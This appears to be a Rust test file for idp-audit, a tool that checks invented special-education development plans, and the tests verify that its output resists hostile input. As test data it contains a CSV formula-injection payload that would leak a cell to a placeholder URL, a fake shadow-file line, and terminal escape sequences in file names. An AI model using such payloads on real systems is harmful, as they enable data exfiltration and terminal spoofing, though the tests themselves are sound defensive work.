//! Outputs that are safe wherever they are opened, and a run that cannot be
//! turned against its user: a letter from a plan full of control characters
//! is still a Word file; CSV cells never become formulas; plan text and
//! file contents never reach an error message; escape sequences never reach
//! the terminal; a configuration in a folder others can write to is ignored;
//! `--jobs` is bounded; a closed stdout is not a panic; file names that are
//! not UTF-8 are reported without loss. Every idp-audit process here runs
//! under a wall-clock and a memory ceiling (`SECONDS`, `MEGABYTES`), killed
//! and failed past either, as in tests/hostile.rs.
//!
//! Plans here are invented and written to temporary folders.

use std::fs;
use std::io::Read;
use std::path::Path;
use std::process::{Command, Output, Stdio};
use tempfile::TempDir;

/// Wall-clock ceiling for each idp-audit process here, as in tests/hostile.rs.
const SECONDS: u64 = 20;
/// Peak resident memory ceiling for each idp-audit process here.
const MEGABYTES: u64 = 300;

fn idp(dir: &Path, args: &[&str]) -> Output {
    let mut cmd = Command::new(env!("CARGO_BIN_EXE_idp-audit"));
    cmd.current_dir(dir).args(args).env_remove("COLUMNS");
    bounded(cmd)
}

/// Run `cmd` to its end under the ceilings, its stdout and stderr caught in
/// files (a pipe could fill and stall it), as `Command::output` would.
fn bounded(mut cmd: Command) -> Output {
    let caught = TempDir::new().unwrap();
    let (o, e) = (caught.path().join("stdout"), caught.path().join("stderr"));
    let child = cmd
        .stdin(Stdio::null())
        .stdout(fs::File::create(&o).unwrap())
        .stderr(fs::File::create(&e).unwrap())
        .spawn()
        .unwrap();
    let status = wait_bounded(child, &format!("{cmd:?}"));
    Output { status, stdout: fs::read(&o).unwrap(), stderr: fs::read(&e).unwrap() }
}

/// Wait for `child`, killing it and failing past `SECONDS` of wall clock
/// or `MEGABYTES` of peak resident memory (its high-water mark in /proc,
/// read every few milliseconds, so a blow-up is stopped as it happens).
fn wait_bounded(mut child: std::process::Child, what: &str) -> std::process::ExitStatus {
    let start = std::time::Instant::now();
    let mut peak_mb = 0;
    loop {
        // Read before asking whether it has ended: once reaped, it is gone.
        peak_mb = peak_mb.max(vm_hwm_mb(child.id()));
        if let Some(status) = child.try_wait().unwrap() {
            assert!(peak_mb <= MEGABYTES, "{what}: peak memory {peak_mb} MB, ceiling {MEGABYTES} MB");
            return status;
        }
        let over = if start.elapsed().as_secs() >= SECONDS {
            Some(format!("still running after {SECONDS} s"))
        } else if peak_mb > MEGABYTES {
            Some(format!("peak memory past {MEGABYTES} MB ({peak_mb} MB)"))
        } else {
            None
        };
        if let Some(why) = over {
            let _ = child.kill();
            let _ = child.wait();
            panic!("{what}: {why}; killed");
        }
        std::thread::sleep(std::time::Duration::from_millis(5));
    }
}

/// A running process's peak resident memory so far, from /proc.
fn vm_hwm_mb(pid: u32) -> u64 {
    fs::read_to_string(format!("/proc/{pid}/status"))
        .ok()
        .and_then(|s| {
            s.lines()
                .find_map(|l| l.strip_prefix("VmHWM:"))
                .and_then(|v| v.trim().trim_end_matches("kB").trim().parse::<u64>().ok())
        })
        .map_or(0, |kb| kb / 1024)
}

fn code(o: &Output) -> i32 {
    o.status.code().expect("exited, not killed by a signal")
}

fn out(o: &Output) -> String {
    String::from_utf8_lossy(&o.stdout).into_owned()
}

fn err(o: &Output) -> String {
    String::from_utf8_lossy(&o.stderr).into_owned()
}

fn plan(body: &str) -> String {
    format!(
        "# Individual Development Plan: Cerys (invented)\n\n## Section 2B: Additional learning provision\n\n{body}\n"
    )
}

/// Every control character a PDF tool leaves behind, and U+FFFE.
fn controls() -> String {
    let mut s: String = (1u8..0x20).filter(|b| !matches!(b, b'\n' | b'\r')).map(char::from).collect();
    s.push('\u{7f}');
    s.push('\u{85}');
    s.push('\u{fffe}');
    s
}

/// Characters XML 1.0 does not allow in a document.
fn xml_forbidden(c: char) -> bool {
    (c < ' ' && !matches!(c, '\t' | '\n' | '\r')) || matches!(c, '\u{fffe}' | '\u{ffff}')
}

#[test]
fn a_letter_from_a_plan_full_of_control_characters_is_well_formed() {
    let tmp = TempDir::new().unwrap();
    // One of each, scattered through the provisions, as a PDF tool leaves them.
    let mut body = String::new();
    for (i, c) in controls().chars().enumerate() {
        body.push_str(&format!(
            "- Access to speech{c}and language therapy as required, group {i}.\n- Support in class where possible, by an \
             adult, with a visual timetable every lesson.\n"
        ));
    }
    fs::write(tmp.path().join("plan.md"), plan(&body)).unwrap();
    let o = idp(tmp.path(), &["letter", "plan.md", "--out", "letter.docx", "--child", "Cerys\u{1}Jones\u{fffe}"]);
    assert_eq!(code(&o), 0, "{}", err(&o));
    let bytes = fs::read(tmp.path().join("letter.docx")).unwrap();
    let mut zip = zip::ZipArchive::new(std::io::Cursor::new(bytes)).unwrap();
    for i in 0..zip.len() {
        let mut part = zip.by_index(i).unwrap();
        let name = part.name().unwrap().to_string();
        if !name.ends_with(".xml") && !name.ends_with(".rels") {
            continue;
        }
        let mut xml = String::new();
        part.read_to_string(&mut xml).unwrap();
        let bad: Vec<char> = xml.chars().filter(|c| xml_forbidden(*c)).collect();
        assert!(bad.is_empty(), "{name} holds characters XML forbids: {bad:?}");
    }
    // The Markdown letter and the Markdown report carry none either.
    let o = idp(tmp.path(), &["letter", "plan.md", "--out", "letter.md"]);
    assert_eq!(code(&o), 0, "{}", err(&o));
    let md = fs::read_to_string(tmp.path().join("letter.md")).unwrap();
    assert!(!md.chars().any(|c| c.is_control() && c != '\n'), "{md:?}");
    let report = out(&idp(tmp.path(), &["check", "plan.md", "--format", "markdown"]));
    assert!(!report.chars().any(|c| c.is_control() && c != '\n'), "{report:?}");
    let sarif = out(&idp(tmp.path(), &["check", "plan.md", "--format", "sarif"]));
    assert!(!sarif.contains("\\u0001") && !sarif.contains('\u{fffe}'), "SARIF text carries no control characters");
}

#[test]
fn csv_cells_never_become_formulas() {
    let tmp = TempDir::new().unwrap();
    let body = "- =HYPERLINK(\"https://example.invalid/?\"&A1,\"Click for the plan\") as required\n\
                - +44 1234 567890 support where possible\n- @SUM(1) access to support\n";
    fs::write(tmp.path().join("=plan.md"), plan(body)).unwrap();
    let o = idp(tmp.path(), &["check", "=plan.md", "--format", "csv"]);
    let mut rows = csv::Reader::from_reader(o.stdout.as_slice());
    let mut n = 0;
    for row in rows.records() {
        let row = row.unwrap();
        for cell in row.iter() {
            let t = cell.trim_start();
            assert!(!t.starts_with(['=', '+', '-', '@']), "a cell a spreadsheet would run: {cell:?}");
        }
        n += 1;
    }
    assert_eq!(n, 3);
    assert!(out(&o).contains("'=HYPERLINK("), "{}", out(&o));
    assert!(out(&o).contains("'=plan.md"), "the path too: {}", out(&o));
}

#[test]
fn errors_never_quote_what_a_file_holds() {
    let tmp = TempDir::new().unwrap();
    let secret = "root:$6$Zq3cR8xRbUl9d$SECRETHASHVALUE:19000:0:99999:7:::";
    fs::write(tmp.path().join("shadow"), format!("{secret}\ndaemon:*:19000:0:99999:7:::\n")).unwrap();
    fs::write(tmp.path().join("idp-audit.toml"), "[lexicon]\nhedges = [\"shadow\"]\n").unwrap();
    fs::write(tmp.path().join("plan.md"), plan("- Support in class where possible.")).unwrap();
    let o = idp(tmp.path(), &["check", "plan.md"]);
    assert_eq!(code(&o), 2);
    let e = err(&o);
    assert!(!e.contains("SECRET") && !e.contains("root:"), "the file's text was printed: {e}");
    assert!(e.contains("shadow") && e.contains("line 1"), "it names the file and where: {e}");
    // The same for a configuration file that is not TOML.
    fs::write(tmp.path().join("idp-audit.toml"), format!("{secret}\n")).unwrap();
    let e = err(&idp(tmp.path(), &["check", "plan.md"]));
    assert!(!e.contains("SECRET") && e.contains("line 1, column"), "{e}");
    // A device or a huge file as configuration fails at once, saying why.
    #[cfg(unix)]
    {
        let e = err(&idp(tmp.path(), &["--config", "/dev/zero", "check", "plan.md"]));
        assert!(e.contains("not a regular file"), "{e}");
    }
    fs::write(tmp.path().join("big.toml"), vec![b'#'; 2 << 20]).unwrap();
    let e = err(&idp(tmp.path(), &["--config", "big.toml", "check", "plan.md"]));
    assert!(e.contains("larger than"), "{e}");
}

#[cfg(unix)]
#[test]
fn a_configuration_others_could_have_written_is_ignored_and_a_parents_is_named() {
    use std::os::unix::fs::PermissionsExt;
    let tmp = TempDir::new().unwrap();
    let shared = tmp.path().join("shared");
    fs::create_dir_all(shared.join("plans")).unwrap();
    fs::write(shared.join("idp-audit.toml"), "[rules]\nIDP201 = \"off\"\nIDP203 = \"off\"\n").unwrap();
    fs::write(shared.join("plans/plan.md"), plan("- Support in class where possible.")).unwrap();
    // A folder anyone may write to, as /tmp is.
    fs::set_permissions(&shared, fs::Permissions::from_mode(0o1777)).unwrap();
    let o = idp(&shared.join("plans"), &["check", "plan.md", "--format", "json"]);
    let e = err(&o);
    assert!(e.contains("warning: ignored") && e.contains("can be written by every user"), "{e}");
    let report: serde_json::Value = serde_json::from_slice(&o.stdout).unwrap();
    let rules: Vec<&str> = report["documents"][0]["provisions"][0]["findings"]
        .as_array()
        .unwrap()
        .iter()
        .map(|f| f["rule"].as_str().unwrap())
        .collect();
    assert!(rules.contains(&"IDP201"), "the rules it turned off still fire: {rules:?}");
    assert!(report.get("configuration").is_none());
    // In a folder of one's own, a parent's configuration is used and named.
    fs::set_permissions(&shared, fs::Permissions::from_mode(0o755)).unwrap();
    let o = idp(&shared.join("plans"), &["check", "plan.md", "--format", "json"]);
    let report: serde_json::Value = serde_json::from_slice(&o.stdout).unwrap();
    assert_eq!(report["configuration"]["found_in_parent_folder"], true);
    assert!(report["configuration"]["file"].as_str().unwrap().ends_with("shared/idp-audit.toml"));
    let human = out(&idp(&shared.join("plans"), &["check", "plan.md"]));
    assert!(human.contains("Configuration:") && human.contains("(found in a parent folder)"), "{human}");
}

#[test]
fn jobs_are_bounded_and_the_report_is_whole() {
    let tmp = TempDir::new().unwrap();
    for i in 0..40 {
        fs::write(tmp.path().join(format!("p{i:02}.md")), plan("- Support in class where possible.")).unwrap();
    }
    let o = idp(tmp.path(), &["check", ".", "--format", "json", "-j", "65535"]);
    assert_eq!(code(&o), 1, "{}", err(&o));
    assert!(err(&o).contains("--jobs 65535 is more than this machine's"), "{}", err(&o));
    let report: serde_json::Value = serde_json::from_slice(&o.stdout).expect("the whole report");
    assert_eq!(report["documents"].as_array().unwrap().len(), 40);
}

#[test]
fn a_closed_stdout_is_not_a_panic() {
    let tmp = TempDir::new().unwrap();
    fs::write(tmp.path().join("plan.md"), plan("- Support in class where possible.")).unwrap();
    for args in [&["letter", "plan.md", "--out", "letter.md"][..], &["rules"], &["explain", "IDP201"]] {
        let mut child = Command::new(env!("CARGO_BIN_EXE_idp-audit"))
            .current_dir(tmp.path())
            .args(args)
            .stdin(Stdio::null())
            .stdout(Stdio::piped())
            .stderr(Stdio::null())
            .spawn()
            .unwrap();
        drop(child.stdout.take()); // the reader goes away, as `| head` does
        let status = wait_bounded(child, &format!("{args:?}"));
        assert_ne!(status.code(), Some(101), "{args:?} panicked");
    }
    assert!(tmp.path().join("letter.md").exists(), "the letter was written all the same");
}

#[test]
fn escape_sequences_never_reach_the_terminal() {
    let tmp = TempDir::new().unwrap();
    let name = "plan\u{1b}[2J\u{1b}[31m.md";
    fs::write(tmp.path().join(name), plan("- Support \u{1b}]0;pwned\u{7}in class where possible.")).unwrap();
    let o = idp(tmp.path(), &["check", name, "--color", "never"]);
    assert!(!out(&o).contains('\u{1b}'), "{:?}", out(&o));
    let o = idp(tmp.path(), &["check", name, "--format", "json", "nope\u{1b}[2J.md"]);
    assert!(!err(&o).contains('\u{1b}'), "{:?}", err(&o));
    assert!(err(&o).contains("nope\\u{1b}[2J.md"), "named, escaped: {:?}", err(&o));
}

#[cfg(unix)]
#[test]
fn file_names_that_are_not_utf8_are_reported_without_loss() {
    use std::os::unix::ffi::OsStrExt;
    let tmp = TempDir::new().unwrap();
    let a = std::ffi::OsStr::from_bytes(b"caf\xe9.md");
    let b = std::ffi::OsStr::from_bytes(b"caf\xe8.md");
    fs::write(tmp.path().join(a), plan("- Support in class where possible.")).unwrap();
    fs::write(tmp.path().join(b), plan("- Support in class where possible.")).unwrap();
    let mut cmd = Command::new(env!("CARGO_BIN_EXE_idp-audit"));
    cmd.current_dir(tmp.path()).args(["check", "--format", "json"]).arg(a).arg(b);
    let o = bounded(cmd);
    let report: serde_json::Value = serde_json::from_slice(&o.stdout).unwrap();
    let paths: Vec<&str> =
        report["documents"].as_array().unwrap().iter().map(|d| d["path"].as_str().unwrap()).collect();
    assert_eq!(paths, ["caf\\xE9.md", "caf\\xE8.md"]);
    let mut cmd = Command::new(env!("CARGO_BIN_EXE_idp-audit"));
    cmd.current_dir(tmp.path()).args(["check", "--format", "sarif"]).arg(a);
    let o = bounded(cmd);
    assert!(out(&o).contains("\"uri\": \"caf%E9.md\""), "{}", out(&o));
}
